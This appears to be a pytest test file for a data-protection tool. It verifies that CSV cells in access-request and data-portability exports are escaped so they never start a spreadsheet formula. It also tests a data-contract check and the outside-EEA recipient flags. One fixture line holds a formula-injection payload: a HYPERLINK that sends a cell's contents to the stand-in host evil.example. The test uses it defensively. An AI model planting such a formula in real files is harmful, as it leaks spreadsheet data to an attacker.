"""Every CSV cell of the access package and of the portability ZIP is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.factories.rights import member
from tutela.accounts.principal import CLI
from tutela.rights.access import write_package
from tutela.rights.portability import portable_data, portable_zip

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _with_formula() -> Any:
    from tutela.subjects.services import item_add

    person = member()
    item_add(
        subject=person, controller="crm-asbl", category="user.name", source="direct",
        value=FORMULA, purposes=["member-management"], subject_type="member", provided_by_subject=True,
        principal=CLI,
    )  # fmt: skip
    return person


def _cells(zf: zipfile.ZipFile, name: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(zf.read(name).decode())))
    return [cell for row in rows for cell in row]


def test_access_package_csv_cells_never_start_a_formula(policy: Any, tmp_path: Path) -> None:
    person = _with_formula()
    path, _ = write_package(person.pk, tmp_path / "p.zip", principal=CLI)
    with zipfile.ZipFile(path) as zf:
        for name in (n for n in zf.namelist() if n.endswith(".csv")):
            for cell in _cells(zf, name):
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
        assert "'" + FORMULA in _cells(zf, "personal_data.csv")
        # the JSON keeps the value as the person gave it
        assert FORMULA in zf.read("data.json").decode().replace('\\"', '"')


def test_portability_csv_cells_never_start_a_formula(policy: Any) -> None:
    person = _with_formula()
    data = portable_data(person.pk, principal=CLI)
    with zipfile.ZipFile(io.BytesIO(portable_zip(data))) as zf:
        cells = _cells(zf, "data.csv")
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA in cells  # member management is a contract: the item is portable


def test_the_contract_check_is_not_an_assert(policy: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The data.json keys are checked by an explicit error, which ``python -O`` does not remove."""
    from tutela.rights import access

    person = member()
    monkeypatch.setattr(access, "KEYS", (*access.KEYS, "extra"))
    with pytest.raises(RuntimeError, match="contract"):
        access.build_data(person.pk, principal=CLI)


def test_outside_eea_follows_the_transfer_rules(policy: Any, policy_data: dict[str, Any]) -> None:
    import yaml

    from tutela.recipients.rules import SHIPPED_RULES
    from tutela.rights.access import build_data

    rules = yaml.safe_load(SHIPPED_RULES.read_text(encoding="utf-8"))
    eea = set(rules["eea"]["eu"]) | set(rules["eea"]["efta"])
    person = member()
    kinds = build_data(person.pk, principal=CLI)["recipients"]["categories_of_recipients"]
    assert kinds
    for kind in kinds:
        country = policy_data["recipients"][kind["key"]].get("country", "BE")  # the schema default
        assert kind["outside_eea"] == (country not in eea), kind
